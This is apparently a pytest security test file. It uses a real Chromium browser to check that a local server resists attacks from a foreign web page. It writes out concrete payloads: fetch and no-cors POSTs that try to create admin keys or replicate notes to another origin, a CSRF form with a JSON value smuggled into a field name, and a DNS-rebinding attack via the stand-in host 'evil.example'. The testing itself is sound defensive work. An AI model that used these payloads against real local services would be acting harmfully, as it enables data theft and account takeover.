"""A page of another origin, in a real browser, tries what pages have tried against servers on localhost.

It is given more than it would have: it knows the address, the names of apps and collections, and even the
owner's token. It must read nothing and change nothing. Each attempt is run by Chromium itself, since what
counts is what a browser really sends and really lets a page see.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import pytest
from aiohttp import web

from tests.conftest import CHROMIUM_ARGUMENTS, chromium
from tests.support.server import RunningServer

if TYPE_CHECKING:
    from playwright.async_api import Browser, Page

SECRET = "what only the owner may read"
NOTE = "/apps/default/couch/notes/diary"
PAGE = "<!doctype html><meta charset=utf-8><title>A foreign page</title><h1>Free kittens</h1>"


@dataclass
class ForeignSite:
    """A web server of somebody else, at a port of its own. It redirects to `target`."""

    target: str
    port: int = 0

    @property
    def origin(self) -> str:
        return f"http://localhost:{self.port}"

    async def page(self, request: web.Request) -> web.Response:
        return web.Response(text=PAGE, content_type="text/html")

    async def redirect(self, request: web.Request) -> web.Response:
        """Sends the browser on, with method and body."""
        return web.Response(status=307, headers={"Location": self.target + request.query["to"]})


@pytest.fixture
async def site(server: RunningServer) -> AsyncIterator[ForeignSite]:
    made = ForeignSite(server.url)
    application = web.Application()
    application.router.add_route("*", "/redirect", made.redirect)
    application.router.add_get("/{path:.*}", made.page)
    runner = web.AppRunner(application)
    await runner.setup()
    listener = web.TCPSite(runner, "127.0.0.1", 0)
    await listener.start()
    made.port = runner.addresses[0][1]
    yield made
    await runner.cleanup()


@pytest.fixture
def diary(server: RunningServer) -> RunningServer:
    """A server with a note, an attachment on it, and a grant of another origin."""
    assert server.request("PUT", "/apps/default/couch/notes").status == 201
    stored = server.request("PUT", NOTE, {"text": SECRET, "callback": "steal"})
    assert stored.status == 201
    rev = stored.json()["rev"]
    put = server.request(
        "PUT", f"{NOTE}/page.svg?rev={rev}", "<svg xmlns='http://www.w3.org/2000/svg'/>",
        headers={"Content-Type": "image/svg+xml"},
    )  # fmt: skip
    assert put.status == 201
    key = {"name": "friend", "app": "*", "scopes": ["admin"], "origin": "http://localhost:1"}
    assert server.request("POST", "/api/v1/keys", key).status == 201
    return server


def state(server: RunningServer) -> Any:
    """All that a page could have changed."""
    found = [
        server.request("GET", path).json()
        for path in (
            "/api/v1/keys",
            "/api/v1/apps/default/collections",
            "/apps/default/couch/notes/_all_docs?include_docs=true",
            "/apps/default/couch/notes/_local_docs",
            "/apps/default/couch/_all_dbs",
        )
    ]
    for key in found[0]["keys"]:
        key.pop("last_used_at")
    return found


ATTEMPTS: dict[str, tuple[str, str]] = {
    # name: (a function body of the page, with `us` and `token`; what it must come to). Without CORS a browser
    # hides even that a request was answered: `Cross-Origin-Resource-Policy` makes a TypeError of it.
    "fetch": ("return read(fetch(us + '/api/v1/status'))", "TypeError"),
    "fetch what is open": ("return read(fetch(us + '/api/v1/health'))", "TypeError"),
    "fetch with credentials": (
        "return read(fetch(us + '/apps/default/couch/notes/diary', {credentials: 'include'}))",
        "TypeError",
    ),
    "fetch with the owner's token": (
        "return read(fetch(us + '/apps/default/couch/notes/diary', {headers: {apikey: token}}))",
        "TypeError",
    ),
    "fetch with Basic": (
        "return read(fetch(us + '/apps/default/couch/notes/diary', "
        "{headers: {Authorization: 'Basic ' + btoa('owner:' + token)}}))",
        "TypeError",
    ),
    "fetch as rows": ("return read(fetch(us + '/apps/default/rest/v1/notes?select=*'))", "TypeError"),
    "no-cors read": (
        "return read(fetch(us + '/apps/default/couch/notes/diary', {mode: 'no-cors'}))",
        "TypeError",
    ),
    "no-cors POST of a key": (
        "return read(fetch(us + '/api/v1/keys', {method: 'POST', mode: 'no-cors', "
        "body: JSON.stringify({name: 'evil', app: '*', scopes: ['admin']})}))",
        "TypeError",
    ),
    "no-cors POST of a document": (
        "return read(fetch(us + '/apps/default/couch/notes', {method: 'POST', mode: 'no-cors', "
        "body: JSON.stringify({_id: 'evil'})}))",
        "TypeError",
    ),
    "no-cors POST of a row": (
        "return read(fetch(us + '/apps/default/rest/v1/notes', {method: 'POST', mode: 'no-cors', "
        "body: JSON.stringify({text: 'evil'})}))",
        "TypeError",
    ),
    "no-cors POST that replicates": (
        "return read(fetch(us + '/apps/default/couch/_replicate', {method: 'POST', mode: 'no-cors', "
        "body: JSON.stringify({source: 'notes', target: location.origin + '/stolen'})}))",
        "TypeError",
    ),
    "no-cors POST of the code exchange": (
        "return read(fetch(us + '/api/v1/exchange', {method: 'POST', mode: 'no-cors', "
        "body: JSON.stringify({code: 'guess'})}))",
        "TypeError",
    ),
    "no-cors POST of a sign-in": (
        "return read(fetch(us + '/apps/default/couch/_session', {method: 'POST', mode: 'no-cors', "
        "body: new URLSearchParams({name: 'owner', password: token})}))",
        "TypeError",
    ),
    "beacon": (
        "return String(navigator.sendBeacon(us + '/api/v1/stop', new Blob(['{}'], {type: 'text/plain'})))",
        "true",
    ),
    "DELETE": (
        "return read(fetch(us + '/apps/default/couch/notes', {method: 'DELETE', headers: {apikey: token}}))",
        "TypeError",
    ),
    "PUT with a JSON type": (
        "return read(fetch(us + '/apps/default/couch/evil', {method: 'PUT', "
        "headers: {'Content-Type': 'application/json'}}))",
        "TypeError",
    ),
    "redirect into us": (
        "return read(fetch('/redirect?to=/api/v1/keys', {method: 'POST', "
        "body: JSON.stringify({name: 'evil', app: '*', scopes: ['admin']})}))",
        "TypeError",
    ),
    "no-cors redirect into us": (
        "return read(fetch('/redirect?to=/api/v1/keys', {method: 'POST', mode: 'no-cors', "
        "body: JSON.stringify({name: 'evil', app: '*', scopes: ['admin']})}))",
        "TypeError",
    ),
    "WebSocket": ("return socket(us + '/api/v1/apps/default/changes')", "refused"),
    "EventSource": (
        "return new Promise(done => { const s = new EventSource(us + "
        "'/apps/default/couch/notes/_changes?feed=eventsource', {withCredentials: true}); "
        "s.onmessage = e => done(e.data); s.onerror = () => { s.close(); done('refused') } })",
        "refused",
    ),
    "image": ("return element('img', us + '/apps/default/couch/notes/diary/page.svg')", "error"),
    "script": ("return element('script', us + '/apps/default/couch/notes/diary')", "error"),
    "script of rows": ("return element('script', us + '/apps/default/rest/v1/notes')", "error"),
    "stylesheet": ("return element('link', us + '/apps/default/couch/notes/diary')", "error"),
    "our own script": ("return element('script', us + '/main.js')", "error"),
    "by [::1]": (
        "return read(fetch(us.replace('localhost', '[::1]') + '/api/v1/status', {headers: {apikey: token}}))",
        "TypeError",
    ),
    "by 127.0.0.1": (
        "return read(fetch(us.replace('localhost', '127.0.0.1') + '/api/v1/status', "
        "{headers: {apikey: token}}))",
        "TypeError",
    ),
    "by 0.0.0.0": (
        "return read(fetch(us.replace('localhost', '0.0.0.0') + '/api/v1/status', "
        "{headers: {apikey: token}}))",
        "TypeError",
    ),
    "by 0.0.0.0 without CORS": (
        "return read(fetch(us.replace('localhost', '0.0.0.0') + '/api/v1/keys', {method: 'POST', "
        'mode: \'no-cors\', body: \'{"name": "evil", "app": "*", "scopes": ["admin"]}\'}))',
        "TypeError",
    ),
    "a sandboxed frame, whose origin is null": (
        "return framed(`fetch('${us}/apps/default/couch/notes/diary', {headers: {apikey: '${token}'}})"
        ".then(r => r.text(), e => e.name).then(t => parent.postMessage(t, '*'))`)",
        "TypeError",
    ),
    "a WebSocket of a sandboxed frame": (
        "return framed(`const s = new WebSocket('${us}/api/v1/apps/default/changes'.replace('http', 'ws')); "
        "s.onopen = () => parent.postMessage('open', '*'); "
        "s.onerror = () => parent.postMessage('refused', '*')`)",
        "refused",
    ),
}

TOOLS = """
const read = promise => promise.then(r => r.text()).then(t => t || "''", e => e.name);
const socket = url => new Promise(done => {
  const s = new WebSocket(url.replace('http', 'ws'));
  s.onopen = () => done('open');
  s.onerror = () => done('refused');
});
const element = (name, url) => new Promise(done => {
  const e = document.createElement(name);
  e.onload = () => done('loaded');
  e.onerror = () => done('error');
  if (name === 'link') { e.rel = 'stylesheet'; e.href = url; } else { e.src = url; }
  document.head.append(e);
});
const framed = script => new Promise(done => {
  addEventListener('message', e => done(e.data), {once: true});
  const f = document.createElement('iframe');
  f.sandbox = 'allow-scripts';
  f.srcdoc = '<script>' + script + '</' + 'script>';
  document.body.append(f);
});
"""


async def test_what_a_foreign_page_tries(diary: RunningServer, site: ForeignSite, page: Page) -> None:
    before = state(diary)
    got: dict[str, str] = {}
    for name, (body, _) in ATTEMPTS.items():
        await page.goto(site.origin)
        got[name] = await page.evaluate(
            f"async ([us, token]) => {{ {TOOLS} {body} }}", [diary.url, diary.token]
        )
        assert state(diary) == before, f"«{name}» changed something"
    assert got == {name: wanted for name, (_, wanted) in ATTEMPTS.items()}
    assert SECRET not in json.dumps(got)
    assert diary.process.poll() is None


FORMS = [
    ("/api/v1/keys", "application/x-www-form-urlencoded"),
    ("/api/v1/keys", "text/plain"),
    ("/apps/default/couch/notes", "text/plain"),
    ("/apps/default/couch/_session", "application/x-www-form-urlencoded"),
    ("/apps/default/rest/v1/notes", "multipart/form-data"),
    ("/api/v1/stop", "text/plain"),
]


@pytest.mark.parametrize(("path", "kind"), FORMS)
async def test_a_form_that_the_person_is_made_to_send(
    diary: RunningServer, site: ForeignSite, page: Page, path: str, kind: str
) -> None:
    """A form needs no permission to be sent, and its answer is shown to the person."""
    before = state(diary)
    await page.goto(site.origin)
    async with page.expect_navigation():
        await page.evaluate(
            """([url, kind]) => {
                const form = document.createElement('form');
                Object.assign(form, {method: 'post', action: url, enctype: kind});
                const input = document.createElement('input');
                input.name = '{"name": "evil", "app": "*", "scopes": ["admin"], "x": "';
                input.value = '"}';
                form.append(input);
                document.body.append(form);
                form.submit();
            }""",
            [diary.url + path, kind],
        )
    shown = await page.content()
    assert "foreign-origin" in shown or "Pages of this origin have no access" in shown, shown
    assert state(diary) == before


async def test_our_pages_cannot_be_framed(diary: RunningServer, site: ForeignSite, page: Page) -> None:
    await page.goto(site.origin)
    await page.evaluate(
        """url => new Promise(done => {
            const frame = document.createElement('iframe');
            frame.onload = done;
            frame.src = url;
            document.body.append(frame);
        })""",
        diary.url,
    )
    frame = page.frames[1]
    assert frame.url.startswith("chrome-error:"), frame.url


async def test_a_window_that_a_foreign_page_opens_is_out_of_its_reach(
    diary: RunningServer, site: ForeignSite, page: Page
) -> None:
    await page.goto(site.origin)
    async with page.context.expect_page() as opened:
        await page.evaluate("url => { window.theirs = window.open(url) }", diary.url)
    window = await opened.value
    await window.wait_for_load_state()
    assert await window.evaluate("window.opener") is None
    assert await page.evaluate("window.theirs.closed") is True


@contextlib.asynccontextmanager
async def rebound(us: int) -> AsyncIterator[int]:
    """The port of an address that serves a page of its own at /kittens, and is this server from then on.

    A name that is bound anew leads to the same port of another address; this is as near as one machine gets.
    """

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        if b" /kittens " in head:
            page = PAGE.encode()
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n")
            writer.write(b"Content-Length: %d\r\n\r\n%s" % (len(page), page))
        else:
            theirs, ours = await asyncio.open_connection("127.0.0.1", us)
            ours.write(head.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n", 1))
            writer.write(await theirs.read())
            ours.close()
        await writer.drain()
        writer.close()

    async with await asyncio.start_server(serve, "127.0.0.1", 0) as listener:
        yield listener.sockets[0].getsockname()[1]


async def test_a_name_that_is_bound_to_us_afterwards(diary: RunningServer, browser: Browser) -> None:
    """DNS rebinding: the page's own name leads to this machine; the browser takes us for its own site."""
    misled = await browser.browser_type.launch(
        executable_path=chromium(),
        args=[*CHROMIUM_ARGUMENTS, "--no-sandbox", "--host-resolver-rules=MAP evil.example 127.0.0.1"],
    )
    try:
        page = await misled.new_page()
        for path in ("/", "/api/v1/health", NOTE):
            answer = await page.goto(f"http://evil.example:{diary.port}{path}")
            assert answer is not None
            assert answer.status == 421, await answer.text()
        async with rebound(diary.port) as port:
            await page.goto(f"http://evil.example:{port}/kittens")
            status, stolen = await page.evaluate(
                """([path, token]) => fetch(path, {headers: {apikey: token}})
                    .then(async answer => [answer.status, await answer.text()])""",
                [NOTE, diary.token],
            )
        assert status == 421
        assert SECRET not in stolen
    finally:
        await misled.close()
